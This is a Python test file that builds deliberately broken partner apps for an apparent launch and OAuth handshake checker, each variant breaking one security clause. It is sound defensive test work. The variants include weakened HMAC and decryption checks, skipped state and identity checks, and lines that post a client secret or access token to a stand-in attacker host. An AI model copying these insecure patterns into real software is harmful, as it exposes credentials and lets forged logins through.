"""Each "must" clause has an app that breaks it, and the platform's checks find exactly that clause.

A broken app is one row: the clause, the mode in which it is examined, and the one method that is
overridden. The correct app passes every check, in both modes.
"""

from __future__ import annotations

import base64
import json
import re
from contextlib import suppress
from dataclasses import replace
from functools import cache
from hashlib import sha256
from typing import Any
from urllib.parse import urlsplit

import pytest

from handshakes.core.messages import Request, Response
from handshakes.core.refusals import Refused
from handshakes.core.strict import form_pairs, query_pairs
from handshakes.fortis import readings, signing
from handshakes.fortis.partner import App
from handshakes.fortis.partner.api import Api
from handshakes.fortis.partner.configuration import API
from handshakes.fortis.partner.connecting import PLATFORM
from handshakes.fortis.rules import encrypted, plain
from handshakes.fortis.signing import Launch
from handshakes.fortis.simulator.examination import examine
from handshakes.fortis.simulator.tampering import opened as decrypted
from handshakes.spec.register import load
from tests.fortis.sides import LOCATION, MODES, SHORT_USER, TITLE, USER, sides

REGISTER = load("fortis")


def signed_in(response: Response) -> str:
    """Who the app's page says is signed in."""
    match = re.search(r'id="user">([^<]*)<', response.body.decode())
    return match[1] if match else ""


def examined(kind: type[App] = App, mode: str = "encrypted"):
    world = sides(kind=kind, mode=mode)
    world.platform.add_app(replace(world.platform.apps[TITLE], iframe_url=world.partner.iframe_url()))
    step = examine(
        world.platform, TITLE, LOCATION, USER, SHORT_USER,
        signed_in=signed_in, offers_oauth=lambda response: b'id="oauth"' in response.body,
    )  # fmt: skip
    return world.network.run(step, "Fortis")


# --- what is accepted too -------------------------------------------------------------------------


def or_reading(*ids: str):
    """Accept what another reading takes too."""

    def verify(self, target, secret):
        try:
            return App.verify(self, target, secret)
        except Refused:
            return signing.verify_launch(
                target,
                mode=self.configuration.mode,
                secret=secret,
                now=self.clock(),
                readings=readings.of(*ids),
            )

    return verify


def or_stages(**stages: Any):
    """Accept what other rules take too."""

    def verify(self, target, secret):
        try:
            return App.verify(self, target, secret)
        except Refused:
            return signing.verify_launch(
                target, mode=self.configuration.mode, secret=secret, now=self.clock(), readings=stages
            )

    return verify


def with_stages(**stages: Any):
    """Take launches by other rules."""

    def verify(self, target, secret):
        return signing.verify_launch(
            target, mode=self.configuration.mode, secret=secret, now=self.clock(), readings=stages
        )

    return verify


def or_secret(made):
    """Accept what another secret gives too."""
    return or_stages(key=lambda secret, clause: made(secret))


def values_of(target: str) -> dict[str, str]:
    return dict(query_pairs(target.partition("?")[2], ""))


def believed(mode: str, values: dict[str, Any]) -> Launch:
    pairs = tuple((name, str(value)) for name, value in values.items() if name in encrypted.NAMES and value)
    return Launch(mode, pairs, None, (), ())


def either_mode(self, target, secret):
    try:
        return App.verify(self, target, secret)
    except Refused as refused:
        if refused.reason != "not-allowed":
            raise
        other = "plain" if self.configuration.mode == "encrypted" else "encrypted"
        return signing.verify_launch(target, mode=other, secret=secret, now=self.clock())


def query_as_key(self, request, user_id, launch=None):
    return sha256(request.query.encode()).hexdigest()


def any_json(plaintext: bytes) -> dict[str, Any]:
    """Read the first JSON object there is, and trim what stands around it."""
    try:
        text = plaintext.decode().strip("\ufeff\0[]").partition(',"x":')[0]
        return encrypted.parse((text if text.endswith("}") else text + "}").encode())
    except (ValueError, Refused):
        return encrypted.parse(plaintext)


def failing_text(plaintext: bytes) -> dict[str, Any]:
    return encrypted.parse(plaintext.decode("latin-1").encode())


def every_type(values):
    found = {name: value[0] if isinstance(value, list) else value for name, value in values.items()}
    return {name: str(value) for name, value in found.items()}


def required_of_session(self, target, secret):
    """Take a launch without ids for the location and user of the token."""
    try:
        return App.verify(self, target, secret)
    except Refused as refused:
        if refused.clause != "fortis:encrypted.required":
            raise
        data = values_of(target)["data"]
        found = json.loads(decrypted(base64.b64decode(data), secret))
        return believed("encrypted", {"location_id": LOCATION, "user_id": USER, **found})


def ecb_too(ciphertext, key, iv):
    from cryptography.hazmat.primitives.ciphers import Cipher
    from cryptography.hazmat.primitives.ciphers.algorithms import AES
    from cryptography.hazmat.primitives.ciphers.modes import ECB

    decryptor = Cipher(AES(key), ECB()).decryptor()
    return decryptor.update(ciphertext) + decryptor.finalize()


def length_not_looked_at(self, target, secret):
    """Take the whole blocks there are, and whatever JSON they hold."""
    try:
        return App.verify(self, target, secret)
    except Refused as refused:
        if refused.clause != "fortis:encrypted.length":
            raise
        raw = base64.b64decode(values_of(target)["data"])
        whole = raw[16 : len(raw) // 16 * 16]
        if not whole:
            raise
        text = encrypted.decrypt(whole, *encrypted.derive(secret.encode(), raw[8:16]))
        pairs = re.findall(rb'"([a-z_-]+)":"([^"]*)"', text)
        return believed("encrypted", {name.decode(): value.decode() for name, value in pairs})


def beside_data(self, target, secret):
    """Let parameters beside data override it."""
    launch = App.verify(self, target, secret)
    values = dict(launch.parameters) | {k: v for k, v in values_of(target).items() if k in ("user_id",)}
    return launch._replace(parameters=tuple(values.items()))


def names_in_any_spelling(values):
    return {name.replace("access_token", "access-token"): value for name, value in values.items()}


def hmac_optional(self, target, secret):
    try:
        return App.verify(self, target, secret)
    except Refused as refused:
        if refused.clause != "fortis:plain.missing":
            raise
        return believed("plain", {"location_id": LOCATION, **values_of(target)})


def half_of_the_hmac(self, target, secret):
    try:
        return App.verify(self, target, secret)
    except Refused as refused:
        if refused.reason != "signature-mismatch":
            raise
        values = values_of(target)
        right = signing.launch_hmac(values["location_id"], values["timestamp"], secret=secret)
        if right[:20] != values["hmac"][:20]:
            raise
        return believed("plain", values)


def hashed_too(self, target, secret):
    try:
        return App.verify(self, target, secret)
    except Refused as refused:
        values = values_of(target)
        text = f"{secret}{values.get('location_id')}{values.get('timestamp')}"
        if refused.reason != "signature-mismatch" or sha256(text.encode()).hexdigest() != values["hmac"]:
            raise
        return believed("plain", values)


def lower_case_first(self, target, secret):
    def message(location_id, timestamp):
        return plain.message(location_id.lower(), timestamp)

    return or_stages(message=message)(self, target, secret)


def any_time(value):
    return int(value[:10]) if value[:10].isdigit() else 1_700_000_000


def no_window(self, target, secret):
    configuration = self.configuration
    return signing.verify_launch(
        target, mode=configuration.mode, secret=secret, now=self.clock(), tolerance=(10**9, 10**9)
    )


def any_location(self, target, secret):
    return or_stages(location=lambda id: None)(self, target, secret)


def stale_is_asked_about(self, request):
    """Ask who it is before anything is verified: the app's launch in another order."""
    try:
        launch = self.verified(request)
    except Refused as refused:
        values = values_of(request.target)
        if refused.reason in ("stale", "from-the-future", "signature-mismatch") and values.get(
            "access-token"
        ):
            yield from self.api.me(self.api.with_token(values["access-token"]))
        self.report("launch", refused)
        return self.closed(refused)
    del launch
    return (yield from App.launch(self, request))


# --- postbacks --------------------------------------------------------------------------------------


def body_read(self, request):
    values = dict(query_pairs(request.query, ""))
    if request.body and len(request.body) < 1_000:
        values |= dict(form_pairs(request.body, request.header("content-type"), ""))
    if request.body and values["location_id"] != LOCATION:
        raise Refused("malformed", "fortis:postback.body-ignored")
    return App.postback_values(self, request)


def delete_takes_no_query(self, method, values, kind):
    if method != "DELETE":
        self.claim(values, kind)


def last_of_several(self, request):
    return dict(query_pairs(request.query, ""))


def anything_goes(self, values, kind):
    return None


def taken_if_there(self, method, values, kind):
    if values.get("location_id") and (kind == "location" or values.get("user_id")):
        App.taken(self, method, values, kind)


class IdsAreNotLookedAt(App):
    """Answers yes to a postback without an id."""

    check_ids = anything_goes
    taken = taken_if_there


def no_key_needed(self, values):
    if values.get("key"):
        App.check_key(self, values)


def active_at_once(self, before):
    return "active"


def answered_with_a_redirect(self, request, kind):
    response = yield from App.postback(self, request, kind)
    return Response(302, (("location", "/done"),)) if response.ok else response


def a_second_time_is_an_error(self, values, kind):
    if self.state(values["location_id"], values.get("user_id", "")) in ("pending", "active"):
        raise Refused("wrong-state", "fortis:postback.idempotent")
    App.claim(self, values, kind)


def removal_is_final(self, launch):
    if self.state(launch.value("location_id")) == "removed":
        raise Refused("unknown-installation", "fortis:launch.registered")
    App.registered(self, launch)


def removed_goes_on(self, location_id):
    if self.state(location_id) != "removed":
        App.location_only(self, location_id)
    else:
        self.keep(location_id, "", {}, lambda before: "active")


# --- the launch -------------------------------------------------------------------------------------


def with_the_reason(self, refused):
    return self.framed("Not open", "<p>{{ reason }}</p>", 403, reason=refused.reason)


def seven_digits_are_no_id(self, launch):
    if len(launch.value("user_id")) < 24:
        raise Refused("malformed", "fortis:launch.user-id")
    App.registered(self, launch)


def confirmed_before_it_is_known(self, launch):
    App.registered(self, launch)
    if launch.value("access-token"):
        self.keep(launch.value("location_id"), "", {}, lambda before: "active")


def never_asked(self, launch):
    yield from ()
    return launch.value("user_id") if launch.value("access-token") else ""


def not_compared(self, claimed, user_id, token):
    return None


def new_users_are_believed(self, launch):
    """Take the launch's word for a user who is not known yet."""
    if launch.value("access-token") and not self.state(launch.value("location_id"), launch.value("user_id")):
        yield from self.asked(launch.value("access-token"))
        return launch.value("user_id")
    return (yield from App.identified(self, launch))


def believed_without_a_token(self, launch):
    if not launch.value("access-token"):
        return launch.value("user_id")
    return (yield from App.identified(self, launch))


def open_when_nobody_answers(self, token):
    try:
        return (yield from App.asked(self, token))
    except Refused as refused:
        if refused.clause != "fortis:identity.unavailable":
            raise
        return USER


def expired_is_fine(self, token):
    try:
        return (yield from App.asked(self, token))
    except Refused as refused:
        if refused.clause != "fortis:token.expired":
            raise
        return USER


def api_with(**overrides: Any):
    kind = type("BrokenApi", (Api,), overrides)
    return property(lambda self: kind(self.configuration, self.clock))


def token_in_the_query(self, method, origin, target, headers):
    kept = dict(headers)
    if token := kept.pop("access-token", ""):
        target += f"{'&' if '?' in target else '?'}access-token={token}"
    return Request(method, origin, target, tuple(kept.items()))


def no_developer_id(self, token):
    return (("access-token", token),)


class KeepsTheToken(App):
    """Asks again with the token whenever its page is shown."""

    def identified(self, launch):
        user_id = yield from App.identified(self, launch)
        if user_id:
            self.store.first_time(PLATFORM, f"token {launch.value('access-token')}", 2**40, self.clock())
            self.last = launch.value("access-token")
        return user_id

    def app(self, request):
        if getattr(self, "last", ""):
            token, self.last = self.last, ""
            self.later = token
        elif getattr(self, "later", ""):
            with suppress(Refused):
                yield from self.api.me(self.api.with_token(self.later))
        return (yield from App.app(self, request))


def token_deleted_at_the_end(self, token):
    user_id = yield from App.asked(self, token)
    yield Request("DELETE", API, f"/v2/token/{token}")
    return user_id


def asked_where_the_launch_says(self, launch):
    if launch.value("access-token") and "attacker" in launch.value("user_oauth_url"):
        headers = self.api.with_token(launch.value("access-token"))
        yield Request("GET", launch.value("user_oauth_url"), "/v2/users/me", headers)
    return (yield from App.identified(self, launch))


def oauth_url_looked_at(self, launch):
    origin = launch.value("user_oauth_url")
    if origin and urlsplit(origin).hostname != "api.sandbox.zeamster.com":
        yield Request("GET", origin, "/.well-known/openid-configuration")
    return (yield from App.identified(self, launch))


def exact_entries_only(self, url):
    if url not in self.configuration.oauth_urls:
        raise Refused("not-allowed", "fortis:oauth.url")
    return url


class OtherTokenPath(App):
    """Writes the token endpoint's path into the code."""

    def exchange(self, values, code):
        configuration, self.configuration = (
            self.configuration,
            replace(self.configuration, token_path="/oauth2/token"),
        )
        self.__dict__.pop("api", None)
        try:
            return (yield from App.exchange(self, values, code))
        finally:
            self.configuration = configuration
            self.__dict__.pop("api", None)


def state_not_looked_at(self, sent, kept):
    return None


class FollowsRedirects(App):
    """Posts the client's secret wherever the token endpoint leads."""

    def exchange(self, values, code):
        try:
            return (yield from App.exchange(self, values, code))
        except Refused as refused:
            if refused.evidence.get("status") == "307":
                yield Request("POST", "https://api.attacker.example", "/oauth/token", (), b"client_secret=x")
            raise


def trimmed_or_longer(secret):
    return (secret + "\n").encode()


BROKEN: list[tuple[str, str, dict[str, Any] | type[App]]] = [
    ("setup.iframe-url", "encrypted", {"iframe_url": lambda self: self.configuration.base_url + "/launch"}),
    ("postback.body-ignored", "encrypted", {"postback_values": body_read}),
    ("postback.query", "encrypted", {"taken": delete_takes_no_query}),
    ("postback.once", "encrypted", {"postback_values": last_of_several}),
    ("postback.required", "encrypted", IdsAreNotLookedAt),
    ("postback.key", "encrypted", {"check_key": no_key_needed}),
    ("postback.claimed", "encrypted", {"claimed_state": active_at_once}),
    ("postback.answer", "encrypted", {"postback": answered_with_a_redirect}),
    ("postback.idempotent", "encrypted", {"claim": a_second_time_is_an_error}),
    ("postback.order", "encrypted", {"registered": removal_is_final}),
    ("location.removes-users", "encrypted", {"users_of": lambda self, location_id: []}),
    ("launch.mode", "encrypted", {"verify": either_mode, "launch_key": query_as_key}),
    ("launch.mode", "plain", {"verify": either_mode}),
    ("launch.registered", "encrypted", {"location_only": removed_goes_on}),
    ("launch.location-id", "encrypted", {"verify": any_location}),
    ("launch.repeated", "plain", {"verify": or_reading("fortis:launch.repeated=first")}),
    ("launch.user-id", "plain", {"registered": seven_digits_are_no_id}),
    ("launch.absent", "encrypted", {"verify": with_stages(present=dict)}),
    ("launch.order", "plain", {"launch": stale_is_asked_about}),
    ("launch.uniform", "encrypted", {"closed": with_the_reason}),
    ("launch.once", "encrypted", {"take_once": lambda self, taken: None}),
    ("launch.failure", "encrypted", {"registered": confirmed_before_it_is_known}),
    ("secret.bytes", "encrypted", {"verify": or_secret(trimmed_or_longer)}),
    ("secret.bytes", "plain", {"verify": or_secret(trimmed_or_longer)}),
    ("secret.empty", "encrypted", {"verify": or_secret(lambda secret: b"")}),
    ("encrypted.derivation", "encrypted", {"verify": or_reading("fortis:encrypted.derivation=sha256")}),
    ("encrypted.cipher", "encrypted", {"verify": or_stages(decrypt=ecb_too)}),
    ("encrypted.base64", "encrypted", {"verify": or_reading("fortis:encrypted.base64=php"), "launch_key": query_as_key}),
    ("encrypted.header", "encrypted", {"verify": or_reading("fortis:encrypted.header=skipped")}),
    ("encrypted.length", "encrypted", {"verify": length_not_looked_at}),
    ("encrypted.padding", "encrypted", {"verify": or_reading("fortis:encrypted.padding=last-byte")}),
    ("encrypted.text", "encrypted", {"verify": or_stages(parse=failing_text)}),
    ("encrypted.json", "encrypted", {"verify": or_stages(parse=any_json)}),
    ("encrypted.duplicate-keys", "encrypted", {"verify": or_reading("fortis:encrypted.duplicate-keys=last-wins")}),
    ("encrypted.names", "encrypted", {"verify": with_stages(names=names_in_any_spelling)}),
    ("encrypted.integers", "encrypted", {"verify": or_stages(texts=every_type)}),
    ("encrypted.required", "encrypted", {"verify": required_of_session}),
    ("encrypted.alone", "encrypted", {"verify": beside_data}),
    ("encrypted.coverage", "encrypted", {"identified": new_users_are_believed}),
    ("plain.coverage", "plain", {"identified": new_users_are_believed}),
    ("plain.verify", "plain", {"verify": half_of_the_hmac}),
    ("plain.message", "plain", {"verify": or_reading("fortis:plain.message=timestamp-location")}),
    ("plain.as-received", "plain", {"verify": lower_case_first}),
    ("plain.hmac", "plain", {"verify": hashed_too}),
    ("plain.hmac-case", "plain", {"verify": or_reading("fortis:plain.hmac-case=either")}),
    ("plain.missing", "plain", {"verify": hmac_optional}),
    ("plain.timestamp", "plain", {"verify": or_stages(timestamp=any_time)}),
    ("plain.tolerance", "plain", {"verify": no_window}),
    ("identity.users-me", "encrypted", {"identified": never_asked}),
    ("identity.mismatch", "encrypted", {"is_the_same": not_compared}),
    ("identity.without-token", "encrypted", {"identified": believed_without_a_token}),
    ("identity.unavailable", "encrypted", {"asked": open_when_nobody_answers}),
    ("token.header", "encrypted", {"api": api_with(request=token_in_the_query)}),
    ("token.developer-id", "encrypted", {"api": api_with(with_token=no_developer_id)}),
    ("token.not-stored", "encrypted", KeepsTheToken),
    ("token.not-deleted", "encrypted", {"asked": token_deleted_at_the_end}),
    ("token.expired", "encrypted", {"asked": expired_is_fine}),
    ("api.host", "encrypted", {"identified": asked_where_the_launch_says}),
    ("oauth.url", "encrypted", {"identified": oauth_url_looked_at}),
    ("oauth.url-form", "encrypted", {"listed": exact_entries_only}),
    ("oauth.endpoints", "encrypted", OtherTokenPath),
    ("oauth.state", "encrypted", {"check_state": state_not_looked_at}),
    ("oauth.redirects", "encrypted", FollowsRedirects),
]  # fmt: skip

NO_ONE_SEES: dict[str, str] = {}


@cache
def failed_by_the_correct_one(mode: str) -> frozenset[str]:
    """What an app breaks without any override: a check that was lost is red at its clause."""
    return frozenset(finding.clause for finding in examined(mode=mode) if finding.violated)


@pytest.mark.broken("fortis")
@pytest.mark.parametrize(
    ("clause", "mode", "override"), BROKEN, ids=[f"{clause}-{mode}" for clause, mode, _ in BROKEN]
)
def test_a_broken_app_fails_exactly_its_clause(clause, mode, override):
    kind = type("Broken", (App,), override) if isinstance(override, dict) else override
    found = [finding for finding in examined(kind, mode) if finding.violated]
    assert {finding.clause for finding in found} == {f"fortis:{clause}"}, found
    assert f"fortis:{clause}" not in failed_by_the_correct_one(mode), "the app itself breaks it"


@pytest.mark.parametrize("mode", MODES)
def test_the_correct_app_fails_nothing(mode):
    findings = examined(mode=mode)
    left = [finding for finding in findings if not finding.held]
    assert {(one.state, one.detail) for one in left} == {("not seen", "postback-lost: nothing sent")}
    assert len(findings) > 400


def test_every_must_clause_of_the_partner_has_a_row_or_a_reason():
    untestable = {entry.clause for entry in REGISTER.untestable}
    must = {c.id for c in REGISTER.clauses if (c.actor, c.level) == ("partner", "must")} - untestable
    rows = {f"fortis:{clause}" for clause, _, _ in BROKEN}
    assert must - rows == set(NO_ONE_SEES)
    assert rows <= must


def test_an_override_is_a_seam_of_the_app():
    for _, _, override in BROKEN:
        if isinstance(override, dict):
            assert all(hasattr(App, name) for name in override)
